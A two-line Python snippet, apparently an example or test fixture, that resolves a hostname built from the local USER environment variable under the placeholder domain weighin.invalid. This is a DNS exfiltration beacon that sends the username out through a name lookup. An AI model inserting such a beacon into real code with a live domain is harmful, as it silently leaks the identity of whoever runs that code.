import os, socket

socket.gethostbyname(f"{os.environ.get('USER')}.weighin.invalid")
